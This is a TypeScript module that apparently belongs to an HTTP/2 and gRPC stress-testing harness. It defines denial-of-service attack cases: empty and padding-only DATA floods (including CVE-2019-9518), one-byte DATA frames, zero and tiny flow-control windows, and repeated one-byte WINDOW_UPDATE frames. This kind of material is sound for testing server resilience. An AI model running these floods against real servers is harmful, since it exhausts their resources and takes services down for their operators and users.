/** Bodies in the smallest pieces, and windows that are never or hardly open. */

import { requestBlock } from "../wire/field-block.ts";
import { emptyPayload, Flag, FrameType, Setting } from "../wire/frames.ts";
import { emptyMessage } from "../wire/messages.ts";
import { type Attack, repeat } from "./attack.ts";

const { END_HEADERS, END_STREAM, PADDED } = Flag;
const collect = requestBlock("Collect");
const feed = requestBlock("Feed");
const echo = requestBlock("Echo");
const framesAPiece = 4000;
const oneByte = Buffer.alloc(1);
/** The prefix of a message of 1 MiB. */
const prefix = Buffer.from([0, 0, 0x10, 0, 0]);

export const dataFloods: readonly Attack[] = [
  {
    name: "empty-data",
    sends: "empty DATA on an open stream",
    known: "CVE-2019-9518",
    create: (peer) => {
      const id = peer.openStream();
      return {
        begin: (batch) => batch.headers(id, collect, END_HEADERS),
        ...repeat((batch) => batch.data(id, emptyPayload), framesAPiece),
      };
    },
  },
  {
    name: "padded-empty-data",
    sends: "DATA that is padding alone",
    create: (peer) => {
      const id = peer.openStream();
      return {
        begin: (batch) => batch.headers(id, collect, END_HEADERS),
        write(batch) {
          while (batch.frames < framesAPiece && peer.takeWindow(id, 1))
            batch.data(id, oneByte, PADDED);
        },
      };
    },
  },
  {
    name: "one-byte-data",
    sends: "a message in DATA frames of one byte",
    create: (peer) => {
      const id = peer.openStream();
      let sent = 0;
      return {
        begin: (batch) => batch.headers(id, collect, END_HEADERS),
        write(batch) {
          while (batch.frames < framesAPiece && peer.takeWindow(id, 1)) {
            const at = sent % (5 + 1024 * 1024);
            // A field whose bytes are all unknown varints of one byte: 0x78 0x00.
            if (at < 5) batch.data(id, prefix.subarray(at, at + 1));
            else batch.data(id, at % 2 === 1 ? fieldKey : oneByte);
            sent++;
          }
        },
      };
    },
  },
  {
    name: "zero-window",
    sends: "calls whose responses have a window of 0",
    settings: [[Setting.INITIAL_WINDOW_SIZE, 0]],
    heldBy: "maxConcurrentStreams",
    create: (peer) => ({
      write(batch) {
        for (let index = 0; index < 200; index++) {
          const id = peer.openStream();
          if (!peer.takeWindow(id, emptyMessage.length)) return;
          batch.headers(id, index % 2 === 0 ? feed : echo, END_HEADERS);
          batch.data(id, emptyMessage, END_STREAM);
        }
      },
    }),
  },
  {
    name: "tiny-window",
    sends: "streamed responses with a window of 1, 500 streams, each opened by 1 in turn",
    settings: [[Setting.INITIAL_WINDOW_SIZE, 1]],
    create: (peer) => {
      const ids: number[] = [];
      return {
        begin(batch) {
          for (let index = 0; index < 500; index++) {
            const id = peer.openStream();
            ids.push(id);
            peer.takeWindow(id, emptyMessage.length);
            batch.headers(id, feed, END_HEADERS);
            batch.data(id, emptyMessage, END_STREAM);
          }
        },
        write(batch) {
          for (const id of ids) batch.word(FrameType.WINDOW_UPDATE, id, 1);
          batch.word(FrameType.WINDOW_UPDATE, 0, ids.length);
        },
      };
    },
  },
  {
    name: "one-byte-windows",
    sends: "one streamed response, its window opened by 1 again and again",
    settings: [[Setting.INITIAL_WINDOW_SIZE, 0]],
    create: (peer) => {
      const id = peer.openStream();
      return {
        begin(batch) {
          peer.takeWindow(id, emptyMessage.length);
          batch.headers(id, feed, END_HEADERS);
          batch.data(id, emptyMessage, END_STREAM);
        },
        ...repeat((batch) => {
          batch.word(FrameType.WINDOW_UPDATE, id, 1);
          batch.word(FrameType.WINDOW_UPDATE, 0, 1);
        }, 2000),
      };
    },
  },
];

const fieldKey = Buffer.from([0x78]);
